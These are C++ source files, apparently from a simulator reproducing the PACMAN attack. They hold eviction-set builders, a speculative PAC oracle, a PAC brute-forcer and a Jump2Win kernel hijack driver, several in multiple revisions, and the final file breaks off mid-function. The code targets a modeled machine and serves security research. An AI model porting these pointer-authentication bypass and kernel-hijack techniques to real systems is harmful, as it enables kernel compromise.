     * load x, load N addresses at @p stride (+ i*128 B when
     * @p cache_safe), then measure the reload latency of x.
     */
    std::vector<SweepPoint> dataSweep(uint64_t stride, unsigned max_n,
                                      unsigned samples, bool cache_safe);

    /**
     * Figure 5(c): instruction-side sweep. Reset the data TLBs,
     * branch to x (filling the iTLB), execute N branch targets at
     * @p stride, then measure x's *data* reload latency.
     */
    std::vector<SweepPoint> instSweep(uint64_t stride, unsigned max_n,
                                      unsigned samples);

    /** Figure 7: measure @p samples latencies of one class. */
    SampleStat measureClass(LatencyClass cls, TimerKind timer,
                            unsigned samples);

    // --- Figure 6 sharing probes (cross-privilege) ---

    /**
     * True if a kernel *data* access to @p count pages of benign data
     * in the probed set evicts user dTLB entries (dTLB shared).
     */
    bool kernelDataEvictsUserDtlb();

    /**
     * Number of kernel instruction fetches in one iTLB set needed
     * before a user-visible dTLB eviction appears (the iTLB -> dTLB
     * spill threshold; 0 if never within the iTLB way count + 1).
     */
    unsigned kernelIfetchSpillThreshold();

  private:
    /** Build state for one latency class around target @p x. */
    void prepareClass(LatencyClass cls, Addr x);

    AttackerProcess &proc_;
    EvictionSets evsets_;
    uint64_t threshold_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_REVENG_HH
