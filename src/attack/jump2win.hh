/**
 * @file
 * The end-to-end Jump2Win control-flow hijack (paper Section 8.3,
 * Figure 9): a single kernel buffer overflow plus the PACMAN oracle
 * yields kernel code execution without a single crash.
 *
 * Steps:
 *  1. brute-force PAC_DA(object1.buf, salt = &object2) — the forged
 *     vtable pointer that will redirect object2's vtable into the
 *     attacker-filled buffer;
 *  2. brute-force PAC_IA(win, salt = &object2 + 8) — the forged
 *     method pointer stored in the fake vtable;
 *  3. trigger the overflow: memcpy writes the fake vtable (signed
 *     win pointer) into object1.buf and overwrites object2's vtable
 *     pointer with the signed buffer address;
 *  4. invoke object2's method: both authentications pass and the
 *     kernel calls win().
 */

#ifndef PACMAN_ATTACK_JUMP2WIN_HH
#define PACMAN_ATTACK_JUMP2WIN_HH

#include <cstdint>
#include <functional>
#include <optional>

#include "attack/bruteforce.hh"
#include "attack/oracle.hh"

namespace pacman::attack
{

/** Outcome of the end-to-end attack. */
struct Jump2WinResult
{
    bool succeeded = false;
    uint16_t vtablePac = 0;   //!< brute-forced DA PAC
    uint16_t methodPac = 0;   //!< brute-forced IA PAC
    uint64_t oracleQueries = 0;
    uint64_t guessesTested = 0;
    std::string failure;      //!< reason when !succeeded
};

/** Jump2Win driver. */
class Jump2Win
{
  public:
    /**
     * @param proc       The attacker process.
     * @param trainIters Gadget-training iterations per oracle query.
     * @param samples    Oracle samples per brute-force candidate.
     */
    explicit Jump2Win(AttackerProcess &proc, unsigned trainIters = 8,
                      unsigned samples = 1);

    /**
     * External search engine for the two PAC sweeps: receives the
     * gadget kind, target, modifier, and candidate range, and
     * returns the sweep's stats (with `found` set on success).
     * Lets callers substitute the parallel campaign runner for the
     * built-in serial PacBruteForcer sweep — the runner cannot be a
     * dependency of this library (it sits above src/attack).
     */
    using SearchHook = std::function<BruteForceStats(
        GadgetKind kind, Addr target, uint64_t modifier,
        uint16_t first, uint16_t last)>;

    /** Route the PAC sweeps through @p hook instead of the serial
     *  built-in search. Pass nullptr to restore the default. */
    void setSearchHook(SearchHook hook) { searchHook_ = std::move(hook); }

    /**
     * Run the full attack.
     *
     * @param pac_search_window If nonzero, limit each brute-force
     *        sweep to a window of this size around the true PAC
     *        (keeping default runs fast; 0 sweeps the full 16-bit
     *        space as the paper does). The window is computed from
     *        ground truth for scaling only — the decision for every
     *        tested candidate still comes from the oracle.
     */
    Jump2WinResult run(unsigned pac_search_window = 0);

  private:
    std::optional<uint16_t> findPac(GadgetKind kind, Addr target,
                                    uint64_t modifier, unsigned window,
                                    Jump2WinResult &result);

    AttackerProcess &proc_;
    unsigned trainIters_;
    unsigned samples_;
    SearchHook searchHook_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_JUMP2WIN_HH
