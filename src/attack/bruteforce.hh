/**
 * @file
 * PAC brute-forcing on top of the oracle (paper Section 8.2): sweep
 * candidate PACs through the crash-free oracle, optionally with
 * median-of-k sampling, and report speed/accuracy statistics.
 */

#ifndef PACMAN_ATTACK_BRUTEFORCE_HH
#define PACMAN_ATTACK_BRUTEFORCE_HH

#include <cstdint>
#include <optional>

#include "attack/oracle.hh"
#include "base/stats.hh"

namespace pacman::attack
{

/**
 * Adaptive sampling policy for one brute-force candidate. The legacy
 * fixed median-of-k behaviour (and its exact oracle-query sequence)
 * is the default: no escalation, no retries.
 */
struct ResamplePolicy
{
    /** Initial oracle samples per candidate (paper: 5, median). */
    unsigned samples = 1;

    /**
     * Escalation ceiling: while a candidate's verdict is ambiguous,
     * keep adding escalateBy samples up to this many. 0 (or a value
     * <= samples) disables escalation — the legacy fixed median-of-k.
     */
    unsigned maxSamples = 0;

    /** Extra samples added per escalation step. */
    unsigned escalateBy = 2;

    /** A verdict is ambiguous when the median lands within this
     *  distance of missThreshold... */
    double ambiguity = 1.0;

    /** ...or when the sample mean sits within z standard errors of
     *  missThreshold (only meaningful with >= 2 samples). */
    double z = 2.0;

    /** Full re-measurements granted to a candidate whose verdict is
     *  still ambiguous after escalation ran dry. */
    unsigned candidateRetries = 0;

    /** True when this policy can take more than `samples` queries. */
    bool
    adaptive() const
    {
        return maxSamples > samples || candidateRetries > 0;
    }
};

/** Brute-force run statistics. */
struct BruteForceStats
{
    uint64_t guessesTested = 0;
    uint64_t oracleQueries = 0;
    uint64_t cyclesSimulated = 0;  //!< guest cycles consumed
    uint64_t samplesTaken = 0;     //!< oracle samples across candidates
    uint64_t escalations = 0;      //!< ambiguous verdicts escalated
    uint64_t candidateRetries = 0; //!< full candidate re-measurements
    std::optional<uint16_t> found; //!< matching PAC, if any

    /**
     * Fold @p other into this. Counters sum; when both runs found a
     * PAC the lowest candidate wins, matching what one serial
     * low-to-high sweep over the union of the two ranges reports.
     */
    void merge(const BruteForceStats &other);
};

/** PAC search driver. */
class PacBruteForcer
{
  public:
    /**
     * @param oracle  A target-bound oracle.
     * @param samples Oracle samples per candidate (paper: 5, median).
     */
    PacBruteForcer(PacOracle &oracle, unsigned samples = 1);

    /** Adaptive-resampling construction. */
    PacBruteForcer(PacOracle &oracle, const ResamplePolicy &policy);

    /**
     * Test candidates [first, last] in order; stop at the first hit.
     * The full space is first = 0x0000, last = 0xFFFF (paper
     * Section 8.2: "testing every possible PAC value starting from
     * 0x0 to 0xFFFF").
     *
     * @param decision_stat If non-null, receives one sample per
     *        tested candidate: the median-of-k probe-miss count the
     *        verdict was based on. Batch callers (the campaign
     *        runner) merge these per-chunk accumulators into the
     *        campaign-wide distribution.
     */
    BruteForceStats search(uint16_t first = 0x0000,
                           uint16_t last = 0xFFFF,
                           SampleStat *decision_stat = nullptr);

    /**
     * Baseline for contrast: what brute force *without* the oracle
     * looks like — architecturally dereferencing each guess.
     * Returns after the first guess because the machine crashes (and
     * on a real system the keys would rotate on restart).
     */
    static const char *naiveBruteForceOutcome();

    const ResamplePolicy &policy() const { return policy_; }

  private:
    /** Median-of-k measurement of one candidate, escalating while
     *  the verdict is ambiguous and budget remains. */
    double measure(uint16_t guess, BruteForceStats &stats,
                   bool *ambiguous);

    PacOracle &oracle_;
    ResamplePolicy policy_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_BRUTEFORCE_HH
