/**
 * @file
 * Eviction-set construction (Sections 2.3, 7, 8).
 *
 * All sets are built by pure address arithmetic against the
 * reverse-engineered structure parameters, exactly like the paper's
 * recipes:
 *
 *  - L1 dTLB set s:  >= 12 pages with VPN = s (mod 256);
 *  - L2 TLB set s:   >= 23 pages with VPN = s (mod 2048);
 *  - L1 iTLB set s:  >= 4 branch targets with VPN = s (mod 32);
 *  - the paper's "+ i * 128 B" trick is applied so eviction-set
 *    entries land in distinct cache sets and do not add cache-miss
 *    latency on top of the TLB signal.
 */

#ifndef PACMAN_ATTACK_EVICTION_HH
#define PACMAN_ATTACK_EVICTION_HH

#include <cstdint>
#include <vector>

#include "kernel/machine.hh"

namespace pacman::attack
{

using isa::Addr;

/** Eviction-set builder bound to one machine's geometry. */
class EvictionSets
{
  public:
    explicit EvictionSets(kernel::Machine &machine);

    /** dTLB set index of the page containing @p va. */
    uint64_t dtlbSetOf(Addr va) const;

    /** L2 TLB set index of the page containing @p va. */
    uint64_t l2tlbSetOf(Addr va) const;

    /** iTLB set index of the page containing @p va. */
    uint64_t itlbSetOf(Addr va) const;

    /**
     * Addresses priming dTLB set @p set: @p n pages at the paper's
     * 256 x 16 KB stride, offset by i * 128 B each.
     */
    std::vector<Addr> dtlbSet(uint64_t set, unsigned n) const;

    /**
     * Addresses evicting L2 TLB set @p set (and the matching dTLB
     * set): @p n pages at the 2048 x 16 KB stride. The paper's
     * "reset" step.
     */
    std::vector<Addr> l2tlbSet(uint64_t set, unsigned n) const;

    /**
     * Kernel trampoline indices whose pages alias iTLB set @p set —
     * the arguments for SYS_FETCH_TRAMP in the instruction-oracle's
     * eviction step (stride 32 x 16 KB).
     */
    std::vector<uint64_t> trampolineIndicesFor(uint64_t set,
                                               unsigned n) const;

    /**
     * Generic sweep set: @p n addresses at @p stride bytes apart
     * (+ i * 128 B when @p cache_safe), used by the Figure 5
     * reverse-engineering sweeps.
     */
    std::vector<Addr> sweepSet(Addr base, uint64_t stride, unsigned n,
                               bool cache_safe) const;

    /** L1D cache set index of the line containing @p va. */
    uint64_t l1dSetOf(Addr va) const;

    /**
     * Addresses priming L1D set @p set: @p n lines one way-span
     * apart, so they alias the cache set while landing in distinct
     * pages (and therefore distinct dTLB sets) — the cache-channel
     * variant of the transmission step (Section 4.1: "our attack is
     * general enough to work with a wide range of
     * micro-architectural side channels").
     */
    std::vector<Addr> l1dSet(uint64_t set, unsigned n) const;

    unsigned l1dWays() const { return l1dWays_; }

    /** Default way counts from the discovered geometry. */
    unsigned dtlbWays() const { return dtlbWays_; }
    unsigned l2tlbWays() const { return l2tlbWays_; }
    unsigned itlbWays() const { return itlbWays_; }

  private:
    uint64_t dtlbSets_;
    uint64_t l2tlbSets_;
    uint64_t itlbSets_;
    uint64_t l1dSets_;
    unsigned dtlbWays_;
    unsigned l2tlbWays_;
    unsigned itlbWays_;
    unsigned l1dWays_;
    unsigned l1dLine_;
};

} // namespace pacman::attack

#endif // PACMAN_ATTACK_EVICTION_HH
