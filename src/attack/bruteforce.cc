#include "bruteforce.hh"

namespace pacman::attack
{

PacBruteForcer::PacBruteForcer(PacOracle &oracle, unsigned samples)
    : oracle_(oracle), samples_(samples)
{
}

BruteForceStats
PacBruteForcer::search(uint16_t first, uint16_t last)
{
    BruteForceStats stats;
    auto &core = oracle_.process().machine().core();
    const uint64_t queries_before = oracle_.queries();
    const uint64_t cycles_before = core.cycle();

    for (uint32_t guess = first; guess <= last; ++guess) {
        ++stats.guessesTested;
        if (oracle_.testPacSampled(uint16_t(guess), samples_)) {
            stats.found = uint16_t(guess);
            break;
        }
    }

    stats.oracleQueries = oracle_.queries() - queries_before;
    stats.cyclesSimulated = core.cycle() - cycles_before;
    return stats;
}

const char *
PacBruteForcer::naiveBruteForceOutcome()
{
    return "first wrong guess dereferences an invalid pointer: the "
           "victim crashes, the kernel re-keys on restart, and every "
           "learned PAC is invalidated — why PA considered brute "
           "force impractical before PACMAN";
}

} // namespace pacman::attack
