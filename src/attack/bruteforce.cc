#include "bruteforce.hh"

#include <algorithm>

namespace pacman::attack
{

void
BruteForceStats::merge(const BruteForceStats &other)
{
    guessesTested += other.guessesTested;
    oracleQueries += other.oracleQueries;
    cyclesSimulated += other.cyclesSimulated;
    if (other.found)
        found = found ? std::min(*found, *other.found) : *other.found;
}

PacBruteForcer::PacBruteForcer(PacOracle &oracle, unsigned samples)
    : oracle_(oracle), samples_(samples)
{
}

BruteForceStats
PacBruteForcer::search(uint16_t first, uint16_t last,
                       SampleStat *decision_stat)
{
    BruteForceStats stats;
    auto &core = oracle_.process().machine().core();
    const uint64_t queries_before = oracle_.queries();
    const uint64_t cycles_before = core.cycle();

    for (uint32_t guess = first; guess <= last; ++guess) {
        ++stats.guessesTested;
        const double misses =
            oracle_.sampledMisses(uint16_t(guess), samples_);
        if (decision_stat)
            decision_stat->add(misses);
        if (misses >= oracle_.config().missThreshold) {
            stats.found = uint16_t(guess);
            break;
        }
    }

    stats.oracleQueries = oracle_.queries() - queries_before;
    stats.cyclesSimulated = core.cycle() - cycles_before;
    return stats;
}

const char *
PacBruteForcer::naiveBruteForceOutcome()
{
    return "first wrong guess dereferences an invalid pointer: the "
           "victim crashes, the kernel re-keys on restart, and every "
           "learned PAC is invalidated — why PA considered brute "
           "force impractical before PACMAN";
}

} // namespace pacman::attack
