#include "bruteforce.hh"

#include <algorithm>
#include <cmath>

#include "base/logging.hh"

namespace pacman::attack
{

void
BruteForceStats::merge(const BruteForceStats &other)
{
    guessesTested += other.guessesTested;
    oracleQueries += other.oracleQueries;
    cyclesSimulated += other.cyclesSimulated;
    samplesTaken += other.samplesTaken;
    escalations += other.escalations;
    candidateRetries += other.candidateRetries;
    if (other.found)
        found = found ? std::min(*found, *other.found) : *other.found;
}

PacBruteForcer::PacBruteForcer(PacOracle &oracle, unsigned samples)
    : oracle_(oracle)
{
    policy_.samples = samples;
}

PacBruteForcer::PacBruteForcer(PacOracle &oracle,
                               const ResamplePolicy &policy)
    : oracle_(oracle), policy_(policy)
{
    PACMAN_ASSERT(policy_.samples >= 1, "need at least one sample");
}

double
PacBruteForcer::measure(uint16_t guess, BruteForceStats &stats,
                        bool *ambiguous)
{
    const unsigned ceiling =
        std::max(policy_.maxSamples, policy_.samples);
    const double thr = double(oracle_.config().missThreshold);

    SampleStat dist;
    auto take = [&](unsigned n) {
        for (unsigned i = 0; i < n; ++i)
            dist.add(double(oracle_.probeMisses(guess)));
    };
    auto is_ambiguous = [&] {
        if (std::abs(dist.median() - thr) < policy_.ambiguity)
            return true;
        return dist.count() >= 2 &&
               std::abs(dist.mean() - thr) <=
                   policy_.z * dist.stderrOfMean();
    };

    take(policy_.samples);
    while (dist.count() < ceiling && is_ambiguous()) {
        take(std::min<uint64_t>(policy_.escalateBy,
                                ceiling - dist.count()));
        ++stats.escalations;
    }

    stats.samplesTaken += dist.count();
    if (ambiguous)
        *ambiguous = is_ambiguous();
    return dist.median();
}

BruteForceStats
PacBruteForcer::search(uint16_t first, uint16_t last,
                       SampleStat *decision_stat)
{
    BruteForceStats stats;
    auto &core = oracle_.process().machine().core();
    const uint64_t queries_before = oracle_.queries();
    const uint64_t cycles_before = core.cycle();

    for (uint32_t guess = first; guess <= last; ++guess) {
        ++stats.guessesTested;
        bool ambiguous = false;
        double misses =
            measure(uint16_t(guess), stats, &ambiguous);
        // An ambiguous verdict after escalation ran dry is worth a
        // clean re-measurement: the disturbance that blurred it is
        // usually transient.
        for (unsigned r = 0;
             ambiguous && r < policy_.candidateRetries; ++r) {
            ++stats.candidateRetries;
            misses = measure(uint16_t(guess), stats, &ambiguous);
        }
        if (decision_stat)
            decision_stat->add(misses);
        if (misses >= oracle_.config().missThreshold) {
            stats.found = uint16_t(guess);
            break;
        }
    }

    stats.oracleQueries = oracle_.queries() - queries_before;
    stats.cyclesSimulated = core.cycle() - cycles_before;
    return stats;
}

const char *
PacBruteForcer::naiveBruteForceOutcome()
{
    return "first wrong guess dereferences an invalid pointer: the "
           "victim crashes, the kernel re-keys on restart, and every "
           "learned PAC is invalidated — why PA considered brute "
           "force impractical before PACMAN";
}

} // namespace pacman::attack
