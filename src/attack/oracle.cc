#include "oracle.hh"

#include <algorithm>

#include "base/logging.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using namespace pacman::kernel;

PacOracle::PacOracle(AttackerProcess &proc, const OracleConfig &cfg)
    : proc_(proc), cfg_(cfg), evsets_(proc.machine())
{
}

bool
PacOracle::isTargetUsable(Addr target) const
{
    if (cfg_.channel == Channel::L1dSet) {
        if (cfg_.kind != GadgetKind::Data)
            return false; // instruction fetches do not touch the L1D
        // The probed cache set must avoid the lines the trial itself
        // touches: the cond/modifier and benign-data kernel lines
        // live in set 0, and the argument arrays occupy the first
        // few lines of whichever half their page parity selects.
        const uint64_t line_set = evsets_.l1dSetOf(target);
        return (line_set & 0xFF) > 4;
    }
    const uint64_t set = evsets_.dtlbSetOf(target);
    for (uint64_t reserved : proc_.reservedDtlbSets()) {
        if (set == reserved)
            return false;
    }
    // The probe set must also differ from the reset pages' dTLB set
    // (the reset stride aliases the cond page's sets).
    const auto &kern = proc_.machine().kernel();
    if (set == evsets_.dtlbSetOf(kern.condSlot()))
        return false;
    if (cfg_.kind != GadgetKind::Data) {
        // The BTB-predicted page (benign_fn) must be a different page
        // than the target, and its spill set must not be probed.
        if (isa::pageNumber(isa::vaPart(target)) ==
            isa::pageNumber(isa::vaPart(kern.benignFn()))) {
            return false;
        }
        if (set == evsets_.dtlbSetOf(kern.benignFn()))
            return false;
    }
    return true;
}

void
PacOracle::setTarget(Addr target, uint64_t modifier)
{
    if (!isTargetUsable(target)) {
        fatal("oracle: target 0x%llx collides with infrastructure "
              "dTLB sets; pick a different page",
              (unsigned long long)target);
    }
    target_ = isa::stripPac(target);
    modifier_ = modifier;

    auto &kern = proc_.machine().kernel();

    // Argument arrays move away from the probed set.
    const uint64_t probe_set = evsets_.dtlbSetOf(target_);
    const unsigned list_page = unsigned((probe_set + 100) % 256);
    const unsigned out_page = unsigned((probe_set + 101) % 256);
    proc_.placeArrays(list_page, out_page);

    // Reset list: evict the guard-condition page's translation so
    // the gadget's branch resolves late (long speculation window).
    resetList_ = evsets_.l2tlbSet(evsets_.l2tlbSetOf(kern.condSlot()),
                                  evsets_.l2tlbWays());

    // Prime list: the target's set in the probed structure.
    if (cfg_.channel == Channel::L1dSet) {
        primeList_ = evsets_.l1dSet(evsets_.l1dSetOf(target_),
                                    evsets_.l1dWays());
    } else {
        primeList_ = evsets_.dtlbSet(probe_set, evsets_.dtlbWays());
    }

    if (cfg_.kind != GadgetKind::Data) {
        // Kernel iTLB eviction indices; never fetch the target's own
        // trampoline page (if the target is one) — that would refill
        // rather than spill its entry.
        const uint64_t target_page = isa::pageNumber(isa::vaPart(target_));
        trampIndices_.clear();
        for (uint64_t idx : evsets_.trampolineIndicesFor(
                 evsets_.itlbSetOf(target_), evsets_.itlbWays() + 1)) {
            const uint64_t page = isa::pageNumber(
                isa::vaPart(TrampolineBase)) + idx;
            if (page != target_page)
                trampIndices_.push_back(idx);
        }
        trampIndices_.resize(evsets_.itlbWays());
    }

    // Tell the gadget kext which modifier to authenticate against,
    // then obtain a legitimately signed training pointer.
    proc_.syscall(SYS_SET_MODIFIER, modifier_);
    const uint16_t legit_sys = cfg_.kind == GadgetKind::Data
                                   ? SYS_GET_LEGIT_DATA
                                   : SYS_GET_LEGIT_INST;
    legitPtr_ = proc_.syscall(legit_sys);
}

uint16_t
PacOracle::gadgetSyscall() const
{
    switch (cfg_.kind) {
      case GadgetKind::Data: return SYS_GADGET_DATA;
      case GadgetKind::Instruction: return SYS_GADGET_INST;
      case GadgetKind::Combined: return SYS_GADGET_BRAA;
      default: panic("bad gadget kind");
    }
}

void
PacOracle::train()
{
    const uint16_t gadget = gadgetSyscall();
    proc_.syscall(SYS_SET_COND, 1);
    for (unsigned i = 0; i < cfg_.trainIters; ++i)
        proc_.syscall(gadget, legitPtr_);
}

unsigned
PacOracle::probeMisses(uint16_t guessed_pac)
{
    PACMAN_ASSERT(target_ != 0, "oracle used before setTarget()");
    const uint16_t gadget = gadgetSyscall();

    proc_.machine().injectNoise();

    // (1) Train the guard branch (and BTB) with the legit pointer.
    train();

    // (2) Disarm the architectural path.
    proc_.syscall(SYS_SET_COND, 0);

    // (3) Reset: open the speculation window.
    if (!cfg_.skipReset)
        proc_.loadAll(resetList_);

    // (4) Prime the target's dTLB set.
    proc_.loadAll(primeList_);

    proc_.machine().injectNoise();

    // (5) Fire the gadget with the guessed signed pointer.
    const uint64_t guess_ptr = isa::withExt(target_, guessed_pac);
    proc_.syscall(gadget, guess_ptr);
    ++queries_;

    // (6) Instruction-fetch gadgets: spill the (possibly) filled
    // kernel iTLB entry into the shared dTLB.
    if (cfg_.kind != GadgetKind::Data) {
        for (uint64_t idx : trampIndices_)
            proc_.syscall(SYS_FETCH_TRAMP, idx);
    }

    // (7) Probe.
    unsigned misses = 0;
    for (uint64_t count : proc_.probeAll(primeList_)) {
        if (count > cfg_.latencyThreshold)
            ++misses;
    }
    return misses;
}

bool
PacOracle::testPac(uint16_t guessed_pac)
{
    return probeMisses(guessed_pac) >= cfg_.missThreshold;
}

double
PacOracle::sampledMisses(uint16_t guessed_pac, unsigned samples)
{
    PACMAN_ASSERT(samples >= 1, "need at least one sample");
    SampleStat misses;
    for (unsigned i = 0; i < samples; ++i)
        misses.add(double(probeMisses(guessed_pac)));
    return misses.median();
}

bool
PacOracle::testPacSampled(uint16_t guessed_pac, unsigned samples)
{
    return sampledMisses(guessed_pac, samples) >= cfg_.missThreshold;
}

} // namespace pacman::attack
