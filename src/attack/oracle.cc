#include "oracle.hh"

#include <algorithm>

#include "base/logging.hh"
#include "base/stats.hh"
#include "kernel/layout.hh"

namespace pacman::attack
{

using namespace pacman::kernel;

PacOracle::PacOracle(AttackerProcess &proc, const OracleConfig &cfg)
    : proc_(proc), cfg_(cfg), evsets_(proc.machine())
{
}

bool
PacOracle::isTargetUsable(Addr target) const
{
    if (cfg_.channel == Channel::L1dSet) {
        if (cfg_.kind != GadgetKind::Data)
            return false; // instruction fetches do not touch the L1D
        // The probed cache set must avoid the lines the trial itself
        // touches: the cond/modifier and benign-data kernel lines
        // live in set 0, and the argument arrays occupy the first
        // few lines of whichever half their page parity selects.
        const uint64_t line_set = evsets_.l1dSetOf(target);
        return (line_set & 0xFF) > 4;
    }
    const uint64_t set = evsets_.dtlbSetOf(target);
    for (uint64_t reserved : proc_.reservedDtlbSets()) {
        if (set == reserved)
            return false;
    }
    // The probe set must also differ from the reset pages' dTLB set
    // (the reset stride aliases the cond page's sets).
    const auto &kern = proc_.machine().kernel();
    if (set == evsets_.dtlbSetOf(kern.condSlot()))
        return false;
    if (cfg_.kind != GadgetKind::Data) {
        // The BTB-predicted page (benign_fn) must be a different page
        // than the target, and its spill set must not be probed.
        if (isa::pageNumber(isa::vaPart(target)) ==
            isa::pageNumber(isa::vaPart(kern.benignFn()))) {
            return false;
        }
        if (set == evsets_.dtlbSetOf(kern.benignFn()))
            return false;
    }
    return true;
}

void
PacOracle::setTarget(Addr target, uint64_t modifier)
{
    if (!isTargetUsable(target)) {
        fatal("oracle: target 0x%llx collides with infrastructure "
              "dTLB sets; pick a different page",
              (unsigned long long)target);
    }
    target_ = isa::stripPac(target);
    modifier_ = modifier;

    rebuildSets();

    // Tell the gadget kext which modifier to authenticate against,
    // then obtain a legitimately signed training pointer.
    proc_.syscall(SYS_SET_MODIFIER, modifier_);
    const uint16_t legit_sys = cfg_.kind == GadgetKind::Data
                                   ? SYS_GET_LEGIT_DATA
                                   : SYS_GET_LEGIT_INST;
    legitPtr_ = proc_.syscall(legit_sys);

    if (cfg_.autoCalibrate)
        calibrate();
}

void
PacOracle::refreshLegitPointer()
{
    PACMAN_ASSERT(target_ != 0, "oracle used before setTarget()");
    const uint16_t legit_sys = cfg_.kind == GadgetKind::Data
                                   ? SYS_GET_LEGIT_DATA
                                   : SYS_GET_LEGIT_INST;
    legitPtr_ = proc_.syscall(legit_sys);
}

PacOracle::Snapshot
PacOracle::takeSnapshot() const
{
    Snapshot snap;
    snap.cfg = cfg_;
    snap.target = target_;
    snap.modifier = modifier_;
    snap.legitPtr = legitPtr_;
    snap.resetList = resetList_;
    snap.primeList = primeList_;
    snap.trampIndices = trampIndices_;
    snap.queries = queries_;
    snap.canaryAddr = canaryAddr_;
    snap.calibHitLo = calibHitLo_;
    snap.calibHitHi = calibHitHi_;
    snap.stats = stats_;
    snap.proc = proc_.takeSnapshot();
    return snap;
}

void
PacOracle::restore(const Snapshot &snap)
{
    cfg_ = snap.cfg;
    target_ = snap.target;
    modifier_ = snap.modifier;
    legitPtr_ = snap.legitPtr;
    resetList_ = snap.resetList;
    primeList_ = snap.primeList;
    trampIndices_ = snap.trampIndices;
    queries_ = snap.queries;
    canaryAddr_ = snap.canaryAddr;
    calibHitLo_ = snap.calibHitLo;
    calibHitHi_ = snap.calibHitHi;
    stats_ = snap.stats;
    proc_.restore(snap.proc);
}

void
PacOracle::rebuildSets()
{
    auto &kern = proc_.machine().kernel();

    // Argument arrays move away from the probed set.
    const uint64_t probe_set = evsets_.dtlbSetOf(target_);
    const unsigned list_page = unsigned((probe_set + 100) % 256);
    const unsigned out_page = unsigned((probe_set + 101) % 256);
    proc_.placeArrays(list_page, out_page);

    // Reset list: evict the guard-condition page's translation so
    // the gadget's branch resolves late (long speculation window).
    resetList_ = evsets_.l2tlbSet(evsets_.l2tlbSetOf(kern.condSlot()),
                                  evsets_.l2tlbWays());

    // Prime list: the target's set in the probed structure.
    if (cfg_.channel == Channel::L1dSet) {
        primeList_ = evsets_.l1dSet(evsets_.l1dSetOf(target_),
                                    evsets_.l1dWays());
    } else {
        primeList_ = evsets_.dtlbSet(probe_set, evsets_.dtlbWays());
    }

    if (cfg_.kind != GadgetKind::Data) {
        // Kernel iTLB eviction indices; never fetch the target's own
        // trampoline page (if the target is one) — that would refill
        // rather than spill its entry.
        const uint64_t target_page = isa::pageNumber(isa::vaPart(target_));
        trampIndices_.clear();
        for (uint64_t idx : evsets_.trampolineIndicesFor(
                 evsets_.itlbSetOf(target_), evsets_.itlbWays() + 1)) {
            const uint64_t page = isa::pageNumber(
                isa::vaPart(TrampolineBase)) + idx;
            if (page != target_page)
                trampIndices_.push_back(idx);
        }
        trampIndices_.resize(evsets_.itlbWays());
    }

    // Sanity-check canary: one noise-arena page whose dTLB set
    // collides with nothing the query touches. Arena page i maps to
    // dTLB set i (mod sets), so the page index is the set index.
    const uint64_t sets = proc_.machine().mem().config().dtlb.sets;
    canaryAddr_ = kernel::NoiseArena +
                  quietDtlbSet((probe_set + 61) % sets) * isa::PageSize;
}

uint64_t
PacOracle::quietDtlbSet(uint64_t start) const
{
    const auto &kern = proc_.machine().kernel();
    const uint64_t sets = proc_.machine().mem().config().dtlb.sets;
    const uint64_t probe_set = evsets_.dtlbSetOf(target_);
    const auto reserved = proc_.reservedDtlbSets();
    for (uint64_t off = 0; off < sets; ++off) {
        const uint64_t s = (start + off) % sets;
        bool ok = s != probe_set &&
                  s != evsets_.dtlbSetOf(kern.condSlot()) &&
                  s != (probe_set + 100) % sets &&   // list array page
                  s != (probe_set + 101) % sets;     // out array page
        if (cfg_.kind != GadgetKind::Data &&
            s == evsets_.dtlbSetOf(kern.benignFn())) {
            ok = false;
        }
        for (uint64_t r : reserved) {
            if (s == r)
                ok = false;
        }
        if (ok)
            return s;
    }
    panic("no quiet dTLB set available");
}

void
PacOracle::calibrate()
{
    ++stats_.calibrations;

    // Measure on a quiet set, offset from the canary's so calibration
    // traffic does not evict it between prime and check.
    const uint64_t sets = proc_.machine().mem().config().dtlb.sets;
    const uint64_t cal_set =
        quietDtlbSet((evsets_.dtlbSetOf(target_) + 173) % sets);
    std::vector<Addr> evict =
        evsets_.dtlbSet(cal_set, evsets_.dtlbWays() + 1);
    const Addr probe = evict.back();
    evict.pop_back();

    // Hit distribution: repeated timed loads of a resident page.
    // Miss distribution: evict the set (one more page than ways),
    // then take the timed load that has to re-walk.
    SampleStat hit, miss;
    proc_.loadAll({probe});
    for (unsigned i = 0; i < cfg_.calibrationSamples; ++i)
        hit.add(double(proc_.timedLoad(probe)));
    for (unsigned i = 0; i < cfg_.calibrationSamples; ++i) {
        proc_.loadAll(evict);
        miss.add(double(proc_.timedLoad(probe)));
    }

    calibHitLo_ = hit.percentile(10);
    calibHitHi_ = hit.percentile(90);
    const double miss_lo = miss.percentile(10);
    double thr = (calibHitHi_ + miss_lo) / 2.0;
    if (miss_lo <= calibHitHi_ + 1.0) {
        // Distributions overlap (should not happen on healthy
        // hardware): fall back to just above the hit mass.
        thr = std::max(thr, hit.mean() + 2.0);
    }
    cfg_.latencyThreshold = uint64_t(thr + 0.5);
}

bool
PacOracle::healthyHit(double count) const
{
    if (count <= 0.0)
        return false; // a frozen timer reads back zero deltas
    if (count > double(cfg_.latencyThreshold))
        return false;
    if (calibHitHi_ > 0.0) {
        // Calibrated: the count must also sit inside the measured
        // hit band. A count far *below* it means the latency/timer
        // regime shifted down (e.g. migration back to the p-core
        // with a stale e-core threshold) — equally disturbed.
        const double slack =
            4.0 + 2.0 * double(proc_.machine().config().timerJitter);
        if (count < calibHitLo_ - slack || count > calibHitHi_ + slack)
            return false;
    }
    return true;
}

bool
PacOracle::verifyEvictionSets()
{
    proc_.loadAll(primeList_);
    for (uint64_t count : proc_.probeAll(primeList_)) {
        if (!healthyHit(double(count)))
            return false;
    }
    return true;
}

void
PacOracle::repairEvictionSets()
{
    ++stats_.repairs;
    rebuildSets();
}

uint16_t
PacOracle::gadgetSyscall() const
{
    switch (cfg_.kind) {
      case GadgetKind::Data: return SYS_GADGET_DATA;
      case GadgetKind::Instruction: return SYS_GADGET_INST;
      case GadgetKind::Combined: return SYS_GADGET_BRAA;
      default: panic("bad gadget kind");
    }
}

void
PacOracle::train()
{
    const uint16_t gadget = gadgetSyscall();
    proc_.syscall(SYS_SET_COND, 1);
    for (unsigned i = 0; i < cfg_.trainIters; ++i)
        proc_.syscall(gadget, legitPtr_);
}

unsigned
PacOracle::probeMisses(uint16_t guessed_pac)
{
    PACMAN_ASSERT(target_ != 0, "oracle used before setTarget()");
    if (cfg_.queryRetries == 0)
